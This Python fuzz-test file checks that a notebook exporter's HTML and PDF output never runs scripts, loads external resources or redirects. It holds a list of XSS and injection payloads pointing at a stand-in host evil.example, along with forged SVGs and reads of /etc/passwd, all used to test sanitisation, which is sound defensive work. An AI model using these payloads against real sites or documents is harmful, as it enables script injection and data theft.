"""Notebooks of outputs that nobody checked: each becomes a document, a page without a way out, a PDF.

The content of every kind is mutated, forged, nested, huge or odd; so are Markdown, attachments and
metadata.
"""

import copy
import re
from pathlib import Path
from typing import Any

import pytest
from executed import make_notebook, show_item, write
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import html
from nbformat import from_dict
from picture_sample import encode, make_bitmap

from report138.engine.errors import NotebookError
from report138.engine.typeset.document import read_document
from report138.engine.typeset.html import HtmlExporter
from report138.engine.typeset.outputs import (
    DOCUMENT_TYPE,
    FIGURE_TYPE,
    GALLERY_TYPE,
    PROSE_TYPE,
    QUOTES_TYPE,
    TABLE_TYPE,
)
from report138.engine.typeset.pdf import set_pdf
from report138.engine.typeset.read_output import READERS
from report138.view.figures import draw_matrix
from report138.view.report import Report
from report138.view.tables import tabulate_ledger, tabulate_levels

CASES = 800  # notebooks in all; those that are set as PDF too, and take longer, are among them
PAPER = 60
EXPORTER = HtmlExporter()  # its templates are compiled once
FAR = "https://evil.example/"
MARKUP = (
    f'"><meta http-equiv="refresh" content="0;url={FAR}"><form action="{FAR}"><input></form>',
    f"<script src='{FAR}x.js'></script><img src={FAR}a.png onerror=alert(1)>",
    f"</style><iframe src={FAR}></iframe><base href={FAR}>",
    "'/><svg onload=alert(1)>",
    f'x" style="background:url({FAR})',
    '#read("/etc/passwd") $x$ \\ #import "a.typ"',
    f"![a]({FAR}b.png) [l](javascript:alert(1)) [f](file:///etc/passwd) <{FAR}>",
    "<!--><img src=x onerror=alert(1)>-->",
    "{{ 7 * 7 }}{% include 'x' %}",
)
ODD = (
    "",
    " ",
    "\x00\x1b[31m\x9b",
    "\ud800",
    "\u202e",
    "é" * 3000,
    "词" * 500,
    "w" * 40_000,
    "\n" * 300,
)
TEXTS = st.one_of(st.sampled_from(MARKUP + ODD), st.text(max_size=40))
NUMBERS = st.sampled_from([0, -1, 1, 3, 10**30, 0.5, float("nan"), float("inf"), -1e308, 5e-324])
LEAVES = st.one_of(TEXTS, NUMBERS, st.booleans(), st.none())
VALUES = st.recursive(
    LEAVES,
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=12,
)
OWN = (DOCUMENT_TYPE, TABLE_TYPE, FIGURE_TYPE, GALLERY_TYPE, PROSE_TYPE, QUOTES_TYPE)
KINDS = sorted({kind for kind, _ in READERS} | {"application/json", "x/y", "text/\ud800"})
PICTURES = ("image/png", "image/jpeg", "image/gif", "image/webp", "application/pdf")
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><text>a</text>{MARKUP[1]}</svg>'


@pytest.fixture(scope="module")
def samples(tiny_reports: dict[str, Report]) -> dict[str, Any]:
    """What the project's own outputs hold, to be spoilt."""
    report = tiny_reports["en"]
    items = [report, draw_matrix(report), tabulate_levels(report), tabulate_ledger(report)]
    found: dict[str, Any] = {}
    for item in items:
        found |= show_item(item).outputs[0].data
    words = {"text": "words", "style": "mark", "link": "cell-a", "lang": "zh"}
    quotation = {"words": [words], "locator": "P1", "link": "", "translation": "t", "lang": "zh"}
    return {
        **{kind: found[kind] for kind in (DOCUMENT_TYPE, TABLE_TYPE, FIGURE_TYPE)},
        GALLERY_TYPE: [found[FIGURE_TYPE]],
        QUOTES_TYPE: {"quotations": [quotation] * 2},
        PROSE_TYPE: "words",
    }


def spoil(draw: Any, value: Any) -> Any:
    """Change one place inside a value: another value, one less, one twice."""
    value = copy.deepcopy(value)
    place, key, holder = value, None, None
    while isinstance(place, (dict, list)) and place and (holder is None or draw(st.integers(0, 4))):
        keys = sorted(place) if isinstance(place, dict) else range(len(place))
        holder, key = place, draw(st.sampled_from(list(keys)))
        place = holder[key]
    if holder is None:
        return draw(VALUES)
    way = draw(st.integers(0, 5))
    if way == 0:
        del holder[key]
    elif way == 1 and isinstance(holder, list):
        holder.append(copy.deepcopy(place))
    elif way == 2 and isinstance(place, str):
        holder[key] = place + draw(st.sampled_from(MARKUP))
    else:
        holder[key] = draw(VALUES)
    return value


def make_content(draw: Any, kind: str, samples: dict[str, Any]) -> Any:
    """Make what an output holds under a kind."""
    if kind in samples and draw(st.integers(0, 5)):
        return spoil(draw, samples[kind])
    if kind in PICTURES and draw(st.booleans()):
        return encode(draw(st.sampled_from([make_bitmap(), *map(str.encode, MARKUP[:5])])))
    if kind == "image/svg+xml" and draw(st.booleans()):
        return SVG.replace("a<", draw(st.sampled_from(MARKUP)) + "<")
    return draw(VALUES)


def make_output(draw: Any, samples: dict[str, Any]) -> Any:
    """Make an output; now and then its envelope is odd as well."""
    form = draw(st.integers(0, 9))
    if form == 0:
        return {"output_type": "stream", "name": "stdout", "text": draw(VALUES)}
    if form == 1:
        said = {name: draw(VALUES) for name in ("ename", "evalue", "traceback")}
        return {"output_type": "error", **said}
    if form == 2:
        return draw(VALUES)
    kinds = draw(st.lists(st.sampled_from([*KINDS, *OWN * 2]), min_size=1, max_size=3))
    data = {kind: make_content(draw, kind, samples) for kind in kinds}
    metadata = draw(st.one_of(st.just({}), VALUES, st.fixed_dictionaries({kinds[0]: VALUES})))
    return {"output_type": "display_data", "data": data, "metadata": metadata}


@st.composite
def make_cells(draw: Any, samples: dict[str, Any]) -> Any:
    """Make a notebook's cells and metadata."""
    source = "\n\n".join(draw(st.lists(TEXTS, max_size=3)))
    code = {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": draw(st.one_of(st.just({}), st.dictionaries(st.text(max_size=6), VALUES))),
        "source": draw(st.sampled_from(["", "#| caption: " + source, "x = 1"])),
        "outputs": [make_output(draw, samples) for _ in range(draw(st.integers(1, 3)))],
    }
    text = {
        "cell_type": draw(st.sampled_from(["markdown", "raw"])),
        "metadata": {"tags": draw(VALUES), "report138": draw(VALUES), "format": draw(VALUES)},
        "attachments": {"a.png": {draw(st.sampled_from(PICTURES)): draw(VALUES)}},
        "source": draw(st.sampled_from(["---\ntitle: ", "# ", ""]))
        + source
        + "\n![a](attachment:a.png)",
    }
    names = st.sampled_from(
        ["report138", "title", "authors", "language_info", "kernelspec", "lang"]
    )
    metadata = draw(st.dictionaries(names, VALUES, max_size=3))
    return from_dict(
        {"cells": [text, code], "metadata": metadata, "nbformat": 4, "nbformat_minor": 5}
    )


def list_ways_out(page: str) -> list[str]:
    """List what a page does by itself: run, load, send, or lead away without a click."""
    root = html.document_fromstring(page)
    found = [
        one.tag for one in root.iter("script", "form", "iframe", "object", "embed", "base", "link")
    ]
    refresh = [one.get("http-equiv") for one in root.iter("meta") if one.get("http-equiv")]
    found += refresh[1:] if refresh[:1] == ["Content-Security-Policy"] else ["no policy"]
    for one in root.iter():
        for name, value in one.attrib.items():
            if name.lower().startswith("on") or name in ("action", "formaction", "srcdoc"):
                found.append(f"{one.tag} {name}")
            elif name in ("src", "href", "xlink:href", "style", "data", "poster", "srcset"):
                link = name == "href" and one.tag == "a"
                allowed = (
                    r"(#|data:(image|font)/|$)" if not link else r"(https?:|mailto:|tel:|[#./])"
                )
                if name == "style":
                    found += re.findall(r"url\([^)#]*\)|expression|@import", value)
                elif not re.match(allowed, value, re.I):
                    found.append(f"{one.tag} {name}={value[:60]}")
    styles = "".join(one.text or "" for one in root.iter("style"))
    return found + re.findall(r"url\((?!data:font/)[^)]*\)|@import", styles)


def check(notebook: Any, *, paper: bool) -> None:
    """Set a notebook; it may be refused, but by an error that says so."""
    try:
        document = read_document(notebook)
        page = EXPORTER.make_page(document)
        pdf = set_pdf(document) if paper else b"%PDF"
    except NotebookError:
        return
    page.encode()
    assert list_ways_out(page) == []
    assert pdf.startswith(b"%PDF")


def run(samples: dict[str, Any], cases: int, *, paper: bool) -> None:
    """Try so many notebooks."""

    @settings(
        max_examples=cases,
        derandomize=True,
        database=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(make_cells(samples))
    def try_one(notebook: Any) -> None:
        check(notebook, paper=paper)

    try_one()


def test_no_output_ends_an_export_or_leaves_the_page(
    samples: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever an output holds: blocks or a notice; nothing on the page runs, loads, sends or leads away."""
    monkeypatch.chdir(tmp_path)
    run(samples, CASES - PAPER, paper=False)
    assert list(tmp_path.iterdir()) == []


def test_no_output_ends_a_pdf(
    samples: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same notebooks are text to Typst too."""
    monkeypatch.chdir(tmp_path)
    run(samples, PAPER, paper=True)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "kind", ["script", "attribute", "break out", "comment", "style", "foreign"]
)
def test_a_forged_figure_is_named(kind: str, samples: dict[str, Any]) -> None:
    """Its drawing would become part of the page."""
    svg = samples[FIGURE_TYPE]["svg"]
    forged = {
        "script": svg.replace("</svg>", "<script>alert(1)</script></svg>"),
        "attribute": svg.replace("<svg ", '<svg onload="alert(1)" ', 1),
        "break out": svg.replace("<svg ", "<svg a='\" onload=alert(1) b=\"' ", 1),
        "comment": svg.replace("</svg>", "<!--><img src=x onerror=alert(1)>--></svg>"),
        "style": svg.replace("</svg>", "<style>body { display: none }</style></svg>"),
        "foreign": svg.replace("</svg>", "<foreignObject><p>a</p></foreignObject></svg>"),
    }[kind]
    output = {"data": {FIGURE_TYPE: samples[FIGURE_TYPE] | {"svg": forged}}, "metadata": {}}
    cell = {"cell_type": "code", "metadata": {}, "source": "", "execution_count": 1}
    output["output_type"] = "display_data"
    document = read_document(make_notebook(write("# T"), from_dict({**cell, "outputs": [output]})))
    assert [block.type for block in document.blocks] == ["heading", "notice"]
    assert len(document.warnings) == 1
